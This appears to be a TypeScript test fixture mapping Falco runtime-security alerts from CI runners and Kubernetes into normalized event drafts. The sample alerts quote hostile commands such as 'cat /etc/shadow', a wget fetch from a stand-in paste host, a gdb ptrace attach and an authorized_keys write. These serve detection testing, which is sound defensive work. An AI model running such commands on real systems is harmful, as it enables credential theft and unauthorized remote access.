// Records as Falco's documentation and rules show them, on runners, and what they become.
import type { SourceCase } from '../../source-case.ts';

export const cases: readonly SourceCase[] = [
  {
    name: 'a sensitive file is read on a runner',
    reference: 'https://falco.org/docs/concepts/outputs/formatting/',
    record: {
      body: {
        hostname: 'ci-runner-3',
        output:
          '14:50:34.502309868: Warning Sensitive file opened for reading by non-trusted program | file=/etc/shadow gparent=bash evt_type=openat user=root process=cat parent=sudo command=cat /etc/shadow container_id=host container_name=host',
        output_fields: {
          'container.id': 'host',
          'container.name': 'host',
          'evt.time': 1773140434502310000,
          'evt.type': 'openat',
          'fd.name': '/etc/shadow',
          'proc.aname[2]': 'bash',
          'proc.aname[3]': 'Runner.Worker',
          'proc.aname[4]': null,
          'proc.cmdline': 'cat /etc/shadow',
          'proc.exepath': '/usr/bin/cat',
          'proc.name': 'cat',
          'proc.pname': 'sudo',
          'proc.tty': 34820,
          'user.loginuid': -1,
          'user.name': 'root',
          'user.uid': 0,
        },
        priority: 'Warning',
        rule: 'Read sensitive file untrusted',
        source: 'syscall',
        tags: ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access'],
        time: '2026-03-10T11:00:34.502309868Z',
      },
    },
    drafts: [
      {
        kind: 'alert',
        native_type: 'Read sensitive file untrusted',
        detail: {
          action: 'raised',
          tool: 'falco',
          rule: 'Read sensitive file untrusted',
          title: 'Sensitive file opened for reading by non-trusted program',
          level: 'Warning',
          location: { path: '/etc/shadow' },
        },
        host: { name: 'ci-runner-3' },
        cicd: { worker: { name: 'ci-runner-3' } },
      },
      {
        kind: 'file',
        detail: { action: 'read', path: '/etc/shadow' },
        observed_at: Date.parse('2026-03-10T11:00:34.502Z'),
        process: {
          executable: '/usr/bin/cat',
          command_line: 'cat /etc/shadow',
          user: 'root',
          ancestors: [{ executable: 'sudo' }, { executable: 'bash' }, { executable: 'Runner.Worker' }],
        },
      },
    ],
  },
  {
    name: 'an outbound connection of a job, as the gRPC output writes it',
    reference: 'https://falco.org/blog/package-hunter-falco/',
    record: {
      body: {
        output:
          '16:35:16.490784795: Notice Disallowed outbound connection destination (command=wget -qO- https://paste.example/raw connection=172.17.0.2:48644->198.51.100.7:443)',
        time: { seconds: '1773142516', nanos: 490784795 },
        source: 'SYSCALL',
        hostname: 'vagrant',
        priority: 'NOTICE',
        rule: 'Unexpected outbound connection destination',
        output_fields: {
          'container.id': 'c62400ffae4a',
          'container.image.repository': 'golang',
          'container.image.tag': '1.24',
          'container.name': 'runner-t1_x9k2z-project-42-concurrent-0-3f9c2c1ab7d04b21-build',
          'evt.time': '16:35:16.490784795',
          'fd.name': '172.17.0.2:48644->198.51.100.7:443',
          'proc.cmdline': 'wget -qO- https://paste.example/raw',
          'user.name': 'root',
        },
      },
    },
    drafts: [
      { kind: 'alert', detail: { level: 'NOTICE', title: 'Disallowed outbound connection destination' } },
      {
        kind: 'connection',
        detail: { address: '198.51.100.7', port: 443, direction: 'egress' },
        observed_at: 1773142516490,
        host: { name: 'vagrant', container: { id: 'c62400ffae4a', image: 'golang:1.24' } },
        cicd: { worker: { name: 'runner-t1_x9k2z-project-42-concurrent-0' } },
      },
    ],
  },
  {
    name: 'a shell starts in the pod of a job',
    reference: 'https://github.com/falcosecurity/rules/blob/main/rules/falco_rules.yaml',
    record: {
      body: {
        hostname: 'node-1',
        output:
          '19:27:21.002873265: Notice A shell was spawned in a container with an attached terminal | evt_type=execve',
        output_fields: {
          'container.id': '97c9868ea832',
          'container.image.repository': 'alpine',
          'container.image.tag': '<NA>',
          'evt.type': 'execve',
          'k8s.ns.name': 'gitlab',
          'k8s.pod.name': 'runner-t1x9k2zq-project-42-concurrent-0-shpvdimu',
          'proc.cmdline': 'sh -c uptime',
          'proc.name': 'sh',
          'proc.pname': 'runc',
        },
        priority: 'Notice',
        rule: 'Terminal shell in container',
        source: 'syscall',
        time: '2026-03-10T11:27:21.002873265Z',
      },
    },
    drafts: [
      { kind: 'alert' },
      {
        kind: 'process',
        detail: { action: 'start' },
        process: { executable: 'sh', command_line: 'sh -c uptime', ancestors: [{ executable: 'runc' }] },
        host: { container: { id: '97c9868ea832', image: 'alpine' }, pod: { namespace: 'gitlab' } },
        cicd: { worker: { name: 'runner-t1x9k2zq-project-42-concurrent-0-shpvdimu' } },
      },
    ],
  },
  {
    name: 'one process attaches to another',
    reference: 'https://github.com/falcosecurity/rules/blob/main/rules/falco_rules.yaml',
    record: {
      body: {
        hostname: 'ci-runner-3',
        output:
          '11:00:00.000000000: Warning Detected ptrace PTRACE_ATTACH attempt | proc_pcmdline=bash evt_type=ptrace',
        output_fields: {
          'evt.type': 'ptrace',
          'evt.arg.request': 'PTRACE_ATTACH',
          'evt.arg.pid': 1873,
          'proc.cmdline': 'gdb -p 1873',
          'proc.exepath': '/usr/bin/gdb',
          'proc.pcmdline': 'bash',
        },
        priority: 'Warning',
        rule: 'PTRACE attached to process',
        source: 'syscall',
        time: '2026-03-10T11:28:00Z',
      },
    },
    drafts: [
      { kind: 'alert' },
      {
        kind: 'memory',
        detail: { action: 'trace', target: { pid: 1873 } },
        process: { executable: '/usr/bin/gdb', ancestors: [{ command_line: 'bash' }] },
      },
    ],
  },
  {
    name: 'a file is opened for writing, passed on by Falcosidekick as a CloudEvent',
    reference: 'https://github.com/falcosecurity/falcosidekick/blob/master/docs/outputs/cloudevents.md',
    record: {
      body: {
        specversion: '1.0',
        id: '7b1e9e4a-0c0f-4f0e-9d38-9b6c9a1f0f52',
        source: 'https://falco.org',
        type: 'falco.rule.output.v1',
        data: {
          uuid: '7b1e9e4a-0c0f-4f0e-9d38-9b6c9a1f0f52',
          output: '11:29:00.000000000: Warning Adding ssh keys to authorized_keys | file=/root/.ssh/authorized_keys',
          priority: 'Warning',
          rule: 'Adding ssh keys to authorized_keys',
          time: '2026-03-10T11:29:00Z',
          output_fields: {
            'evt.type': 'openat',
            'fd.name': '/root/.ssh/authorized_keys',
            'proc.env[GITHUB_RUN_ID]': '4711',
            'proc.env[GITHUB_REPOSITORY]': 'harbor/shop',
            'proc.name': 'tee',
          },
          source: 'syscall',
          hostname: 'ci-runner-3',
        },
      },
    },
    drafts: [
      { kind: 'alert' },
      {
        kind: 'file',
        detail: { action: 'write', path: '/root/.ssh/authorized_keys' },
        vcs: { provider: { name: 'github' }, repository: { name: 'harbor/shop' } },
        cicd: { pipeline: { run: { id: '4711' } }, worker: { name: 'ci-runner-3' } },
      },
    ],
  },
  {
    name: 'events of the kernel were lost',
    reference: 'https://falco.org/docs/concepts/event-sources/kernel/dropped-events/',
    record: {
      body: {
        hostname: 'ci-runner-3',
        output: 'Falco internal: syscall event drop. 815508 system calls dropped in last second.',
        output_fields: { ebpf_enabled: '1', n_drops: '815508', n_drops_buffer_total: '815508', n_evts: '2270350' },
        priority: 'Debug',
        rule: 'Falco internal: syscall event drop',
        time: '2026-03-10T11:30:00.000000003Z',
      },
    },
    drafts: [{ kind: 'alert', detail: { action: 'blind' }, cicd: { worker: { name: 'ci-runner-3' } } }],
  },
  {
    name: 'the counters of a sensor that is well, and of one that lost events since it told them last',
    reference: 'https://falco.org/docs/concepts/metrics/',
    record: {
      body: {
        hostname: 'ci-runner-3',
        output: 'Falco metrics snapshot',
        output_fields: {
          'evt.source': 'syscall',
          'evt.time': 1773142200000000000,
          'falco.outputs_queue_num_drops': 0,
          'falco.version': '0.41.0',
          'scap.n_drops': 640,
          'scap.n_drops_prev': 12,
          'scap.n_evts': 49761,
        },
        priority: 'Informational',
        rule: 'Falco internal: metrics snapshot',
        source: 'internal',
      },
    },
    drafts: [{ kind: 'alert', detail: { action: 'blind', level: 'Informational' }, observed_at: 1773142200000 }],
  },
  {
    name: 'somebody runs a command in a pod, seen in the audit events of Kubernetes',
    reference: 'https://falco.org/docs/concepts/event-sources/plugins/kubernetes-audit/',
    record: {
      body: {
        hostname: 'falco-k8saudit-x7k2p',
        output:
          '09:29:46.302906000: Notice Attach/Exec to pod (user=mara pod=arc-shop-x7k2p-runner-9qwzt resource=pods ns=arc)',
        output_fields: {
          'ka.target.name': 'arc-shop-x7k2p-runner-9qwzt',
          'ka.target.namespace': 'arc',
          'ka.target.resource': 'pods',
          'ka.target.subresource': 'exec',
          'ka.uri.param[command]': 'cat',
          'ka.user.name': 'mara',
        },
        priority: 'Notice',
        rule: 'Attach/Exec Pod',
        source: 'k8s_audit',
        tags: ['k8s'],
        time: '2026-03-10T09:29:46.302906000Z',
      },
    },
    drafts: [
      {
        kind: 'alert',
        detail: { title: 'Attach/Exec to pod' },
        actor: { name: 'mara', type: 'unknown' },
        cicd: { worker: { name: 'arc-shop-x7k2p-runner-9qwzt' } },
      },
    ],
  },
  {
    name: 'a text that was never filled in stands for the time, and a field is of the wrong type',
    reference: 'https://github.com/falcosecurity/falcosidekick/blob/master/handlers.go',
    record: {
      body: {
        output: 'This is a test',
        priority: 'Debug',
        rule: 'Test rule',
        time: '` + time.Now().UTC().Format(time.RFC3339) + `',
        output_fields: { 'evt.time': 1773142200000000000, 'proc.name': ['sh'], 'user.name': 'falcosidekick' },
      },
    },
    drafts: [{ kind: 'alert', observed_at: 1773142200000, process: { user: 'falcosidekick' } }],
    notes: ['time: expected a time, found text', 'proc.name: expected text or a number, found a list'],
  },
];
